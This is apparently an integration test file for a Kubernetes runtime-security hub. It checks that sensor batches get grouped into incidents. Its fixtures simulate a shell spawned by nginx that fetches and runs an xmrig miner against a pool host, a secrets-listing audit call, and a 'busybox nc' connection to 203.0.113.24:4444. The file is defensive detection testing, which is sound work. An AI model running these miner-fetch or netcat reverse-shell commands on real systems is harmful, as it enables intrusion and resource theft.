//! Batches of sensors: let in by token, judged once, joined with what else is known of the workload.

use catseye_hub::auth::Token;
use catseye_hub::edge::Edge;
use catseye_hub::intake::sensor::{SensorIntake, SensorIntakeConfig};
use catseye_hub::serve::router;
use catseye_hub::{Clock, Durability, Filter, Hub, HubConfig};
use catseye_model::{Delta, DeltaChange};
use catseye_store::{EventFilter, Options, Store};
use http::{Request, StatusCode};
use serde_json::{Value, json};

use crate::asked::{config, edge_config, get, send};

const SENSOR: &str = "sensor-token";
const POD: &str = "0c1e0000-0000-4000-8000-000000000001";

/// A deployment, its pod, and a policy that lets nobody else in.
fn objects() -> Vec<Value> {
    vec![
        json!({"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": "web", "namespace": "shop", "uid": "d1", "labels": {"app": "web"}},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "web"}},
                "template": {"metadata": {"labels": {"app": "web"}},
                    "spec": {"serviceAccountName": "web", "containers": [{"name": "web", "image": "web:1"}]}}}}),
        json!({"apiVersion": "apps/v1", "kind": "ReplicaSet",
            "metadata": {"name": "web-7", "namespace": "shop", "uid": "r1", "labels": {"app": "web"},
                "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": "web", "uid": "d1", "controller": true}]},
            "spec": {"selector": {"matchLabels": {"app": "web"}},
                "template": {"metadata": {"labels": {"app": "web"}},
                    "spec": {"serviceAccountName": "web", "containers": [{"name": "web", "image": "web:1"}]}}}}),
        json!({"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "web-7-x", "namespace": "shop", "uid": POD, "labels": {"app": "web"},
                "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-7", "uid": "r1", "controller": true}]},
            "spec": {"serviceAccountName": "web", "nodeName": "node-1", "containers": [{"name": "web", "image": "web:1"}]},
            "status": {"podIP": "10.1.0.7", "podIPs": [{"ip": "10.1.0.7"}]}}),
    ]
}

fn hub_with(config: HubConfig, store: Option<Store>) -> Hub {
    let hub = match store {
        Some(store) => Hub::open_kept(
            config,
            Clock::System,
            store,
            tokio::runtime::Handle::current(),
        )
        .unwrap(),
        None => Hub::open(config, Clock::System).unwrap(),
    };
    let time = jiff::Timestamp::now();
    let mut deltas: Vec<Delta> = objects()
        .into_iter()
        .map(|object| Delta {
            time,
            change: DeltaChange::Upsert(serde_json::from_value(object).unwrap()),
        })
        .collect();
    for (group, kind) in [("apps", "Deployment"), ("apps", "ReplicaSet"), ("", "Pod")] {
        deltas.push(Delta {
            time,
            change: DeltaChange::Synced {
                group: group.to_owned(),
                kind: kind.to_owned(),
            },
        });
    }
    hub.apply(deltas).unwrap();
    hub
}

/// A shell that a web server started, drops a program, runs it, and it talks to the outside.
fn attack(first: u64) -> String {
    let subject =
        json!({"kind": "container", "cgroup": 7, "container_id": "4f0c8a2b1c3d99", "pod_uid": POD});
    let process = |pid: u32,
                   argv: &[&str],
                   executable: &str,
                   origin: &str,
                   parent: Option<(u32, &str)>| {
        let ancestors: Vec<Value> = parent
            .into_iter()
            .map(|(pid, path)| json!({"exec_id": format!("node-1:b:{pid}:1"), "pid": pid, "executable": path, "argv": [path]}))
            .collect();
        json!({"exec_id": format!("node-1:b:{pid}:1"), "pid": pid, "uid": 0, "executable": executable,
            "argv": argv, "origin": origin, "ancestors": ancestors})
    };
    let shell = process(
        11,
        &["sh", "-c", "wget x"],
        "/bin/sh",
        "image",
        Some((10, "/usr/sbin/nginx")),
    );
    let dropped = process(
        12,
        &["/tmp/xmrig", "-o", "stratum+tcp://pool.example:3333"],
        "/tmp/xmrig",
        "upper",
        Some((11, "/bin/sh")),
    );
    let time = |second: u64| format!("2026-11-21T10:00:{second:02}Z");
    let event = |second: u64, process: &Value, what: Value| {
        json!({"catseye": 1, "time": time(second), "node": "node-1", "source": "catseye",
            "subject": subject, "process": process, "what": what})
    };
    let events = [
        event(1, &shell, json!({"exec": {}})),
        event(2, &dropped, json!({"exec": {}})),
        event(
            3,
            &dropped,
            json!({"dns": {"name": "pool.example", "qtype": "A", "rcode": "NOERROR",
            "answers": [{"address": "203.0.113.9", "ttl": 60}]}}),
        ),
        event(
            4,
            &dropped,
            json!({"flow": {"direction": "out", "transport": "tcp", "peer": "203.0.113.9",
            "port": 3333, "names": ["pool.example"], "count": 1, "sent": 300, "received": 900,
            "latency": {"count": 1, "sum": 12000, "max": 12000}}}),
        ),
    ];
    let head = json!({"catseye_batch": 1, "node": "node-1", "stream": "b-1", "first": first, "count": events.len(),
        "about": {"version": "0.1.0", "kernel": "6.18", "refused": [{"tells": "modules", "reason": "no such tracepoint"}]}});
    let mut text = format!("{head}\n");
    for event in events {
        text.push_str(&event.to_string());
        text.push('\n');
    }
    text
}

/// A hub behind its router that lets sensors in.
fn served(hub: &Hub, most_bytes: usize, store: Option<Store>) -> axum::Router {
    let sensors = SensorIntake::open(
        hub.clone(),
        SensorIntakeConfig {
            token: Token::known(SENSOR),
            most_bytes,
        },
    )
    .unwrap();
    router(Edge::new(
        hub.clone(),
        catseye_hub::edge::EdgeConfig {
            sensors: Some(sensors),
            mode: "live".to_owned(),
            ..edge_config(store)
        },
    ))
}

fn post(token: &str, body: impl Into<axum::body::Body>) -> Request<axum::body::Body> {
    Request::post("/intake/runtime")
        .header("authorization", format!("Bearer {token}"))
        .body(body.into())
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn an_attack_in_a_pod_is_one_incident_with_processes_connections_and_names() {
    let hub = hub_with(config(), None);
    let app = served(&hub, 1 << 20, None);
    for _ in 0..2 {
        let packed = zstd::bulk::compress(attack(1).as_bytes(), 1).unwrap();
        let mut request = post(SENSOR, packed);
        let headers = request.headers_mut();
        headers.insert("content-encoding", "zstd".parse().unwrap());
        assert_eq!(send(&app, request).await.status, StatusCode::OK);
    }
    let page = hub.inbox().list(&Filter::default());
    assert_eq!(page.incidents.len(), 1, "{:#?}", page.incidents);
    let incident = &page.incidents[0];
    let scene = incident.scene.as_ref().unwrap();
    assert_eq!(scene.processes.len(), 3, "{:?}", scene.processes);
    assert_eq!(scene.connections[0].name, "pool.example");
    assert_eq!(scene.connections[0].count, 1, "sent twice, counted once");
    assert_eq!(scene.names[0].name, "pool.example");
    assert_eq!(
        incident.subjects[0].object.to_string(),
        "Deployment shop/web"
    );
    let shown = get(&app, &format!("/api/v1/incidents/{}", incident.id)).await;
    assert_eq!(shown.json()["scene"]["processes"][2]["origin"], "upper");

    let network = get(&app, "/api/v1/network?level=workload").await.json();
    assert_eq!(network["observed"]["available"], true);
    let edges = network["edges"].as_array().unwrap();
    let edge = edges
        .iter()
        .find(|edge| edge["to"] == "name:pool.example")
        .unwrap();
    assert_eq!(edge["from"], "wl:Deployment.apps/shop/web");
    assert_eq!(edge["observed"][0]["sent"], 300);
    assert_eq!(edge["observed"][0]["latency_ms"], 12.0);

    let coverage = get(&app, "/api/v1/coverage").await.json();
    let sensor = &coverage["sensors"][0];
    assert_eq!(
        (&sensor["node"], &sensor["events"]),
        (&json!("node-1"), &json!(4))
    );
    assert_eq!(sensor["refused"][0]["what"], "modules");
    let metrics = get(&app, "/metrics").await;
    let metrics = String::from_utf8(metrics.bytes).unwrap();
    assert!(
        metrics.contains("\ncatseye_sensor_again_total 4\n"),
        "{metrics}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_workloads_account_does_belongs_to_what_runs_there() {
    let hub = hub_with(config(), None);
    let app = served(&hub, 1 << 20, None);
    assert_eq!(
        send(&app, post(SENSOR, attack(1))).await.status,
        StatusCode::OK
    );
    let call = json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
        "auditID": "a1", "stage": "ResponseComplete", "requestURI": "/api/v1/secrets", "verb": "list",
        "user": {"username": "system:serviceaccount:shop:web", "groups": ["system:serviceaccounts"]},
        "sourceIPs": ["10.1.0.7"], "userAgent": "curl", "objectRef": {"resource": "secrets", "apiVersion": "v1"},
        "responseStatus": {"code": 200}, "requestReceivedTimestamp": "2026-11-21T10:01:00.000000Z",
        "stageTimestamp": "2026-11-21T10:01:00.001000Z"});
    hub.observe("test", format!("{call}\n").as_bytes()).unwrap();
    let page = hub.inbox().list(&Filter::default());
    assert_eq!(page.incidents.len(), 1, "{:#?}", page.incidents);
    let sources: Vec<String> = page.incidents[0]
        .sources
        .iter()
        .map(|it| format!("{it:?}"))
        .collect();
    assert!(
        sources.contains(&"Audit".to_owned()) && sources.contains(&"Runtime".to_owned()),
        "{sources:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_say_what_to_do() {
    let hub = hub_with(config(), None);
    let app = served(&hub, 1 << 20, None);
    for (request, status, word) in [
        (
            post("wrong", attack(1)),
            StatusCode::UNAUTHORIZED,
            "sensor.token",
        ),
        (post(SENSOR, "no batch"), StatusCode::BAD_REQUEST, "batch"),
        (
            post(SENSOR, attack(1).replace("node-1", "no de")),
            StatusCode::BAD_REQUEST,
            "name of a node",
        ),
        (
            post(SENSOR, attack(1).replace("\"count\":4", "\"count\":5")),
            StatusCode::BAD_REQUEST,
            "says 5",
        ),
    ] {
        let answer = send(&app, request).await;
        let text = String::from_utf8_lossy(&answer.bytes).into_owned();
        assert_eq!(answer.status, status, "{text}");
        assert!(text.contains(word), "{text}");
    }
    let closed = router(Edge::new(hub, edge_config(None)));
    let answer = send(&closed, post(SENSOR, attack(1))).await;
    assert!(String::from_utf8_lossy(&answer.bytes).contains("sensors = true"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hub_that_starts_anew_knows_what_it_took_and_what_it_learned() {
    let folder = tempfile::tempdir().unwrap();
    for round in 0..3 {
        let store = Store::open(folder.path().to_str().unwrap(), Options::default())
            .await
            .unwrap();
        let kept = store.clone();
        let hub = tokio::task::spawn_blocking(move || {
            let config = HubConfig {
                durability: Durability::Acknowledged,
                ..config()
            };
            hub_with(config, Some(kept))
        })
        .await
        .unwrap();
        let app = served(&hub, 1 << 20, Some(store.clone()));
        // The same again, as a sensor does that was not answered.
        assert_eq!(
            send(&app, post(SENSOR, attack(1))).await.status,
            StatusCode::OK
        );
        let again = hub.sensors()[0].1.again;
        assert_eq!(again, if round == 0 { 0 } else { 4 });
        let page = store
            .events(
                EventFilter {
                    source: Some("runtime".to_owned()),
                    ..Default::default()
                },
                None,
                100,
            )
            .await
            .unwrap();
        assert_eq!(page.events.len(), 4);
        assert_eq!(page.events[0].event.verb, "flow");
        assert_eq!(hub.known_flows(), 1);
        assert_eq!(hub.inbox().list(&Filter::default()).incidents.len(), 1);
        tokio::task::spawn_blocking(move || hub.close())
            .await
            .unwrap()
            .unwrap();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_looked_up_takes_nothing_of_what_came_with_it() {
    let folder = tempfile::tempdir().unwrap();
    let store = Store::open(folder.path().to_str().unwrap(), Options::default())
        .await
        .unwrap();
    let read = |text: String| catseye_sensor::transport::Batch::read(&text).unwrap();
    let known = read(attack(1));
    let unknown = read(attack(1).replace("node-1", "node-2"));
    let alive = catseye_sensor::transport::Batch {
        events: Vec::new(),
        ..known.clone()
    };
    let hub = tokio::task::spawn_blocking(move || {
        let hub = hub_with(config(), Some(store));
        hub.observe_runtime(vec![alive]).unwrap();
        hub.flush().unwrap();
        let other = rusqlite::Connection::open(folder.path().join("catseye.db")).unwrap();
        other
            .execute_batch("ALTER TABLE progress RENAME TO away")
            .unwrap();
        let both = vec![known, unknown];
        assert!(hub.observe_runtime(both.clone()).is_err());
        other
            .execute_batch("ALTER TABLE away RENAME TO progress")
            .unwrap();
        let sensed = hub.observe_runtime(both).unwrap();
        assert_eq!((sensed.events, sensed.again), (8, 0));
        hub
    });
    let hub = hub.await.unwrap();
    assert_eq!(hub.inbox().list(&Filter::default()).incidents.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn how_the_token_of_the_shop_was_stolen_belongs_to_what_was_done_with_it() {
    let (hub, _) = crate::asked::shop();
    let page = hub.inbox().list(&Filter {
        held_back: true,
        limit: 10_000,
        ..Filter::default()
    });
    let with_scene: Vec<_> = page
        .incidents
        .iter()
        .filter(|it| it.scene.is_some())
        .collect();
    let [theft] = with_scene.as_slice() else {
        panic!(
            "{:#?}",
            with_scene.iter().map(|it| &it.title).collect::<Vec<_>>()
        );
    };
    let names: Vec<String> = theft
        .subjects
        .iter()
        .map(|it| it.object.to_string())
        .collect();
    assert!(
        names.contains(&"Deployment shop/reviews".to_owned()),
        "{names:?}"
    );
    let sources: Vec<String> = theft.sources.iter().map(|it| format!("{it:?}")).collect();
    assert!(
        sources.contains(&"Audit".to_owned()) && sources.contains(&"Runtime".to_owned()),
        "{sources:?}"
    );
    let scene = theft.scene.as_ref().expect("it was looked for");
    assert!(
        scene
            .processes
            .iter()
            .any(|it| it.command.contains("/dev/shm/busybox nc 203.0.113.24"))
    );
    assert!(
        scene
            .connections
            .iter()
            .any(|it| it.peer.to_string() == "203.0.113.24:4444")
    );

    let network = get(
        &crate::asked::plain(),
        "/api/v1/network?level=workload&show=observed",
    )
    .await
    .json();
    let edges = network["edges"].as_array().expect("a list");
    let between = |from: &str, to: &str| {
        edges
            .iter()
            .any(|edge| edge["from"] == from && edge["to"] == to)
    };
    assert!(
        between(
            "wl:Deployment.apps/shop/frontend",
            "wl:Deployment.apps/shop/catalog"
        ),
        "{edges:#?}"
    );
    assert!(
        between(
            "wl:Deployment.apps/shop/catalog",
            "wl:StatefulSet.apps/data/shop-db"
        ),
        "{edges:#?}"
    );
}
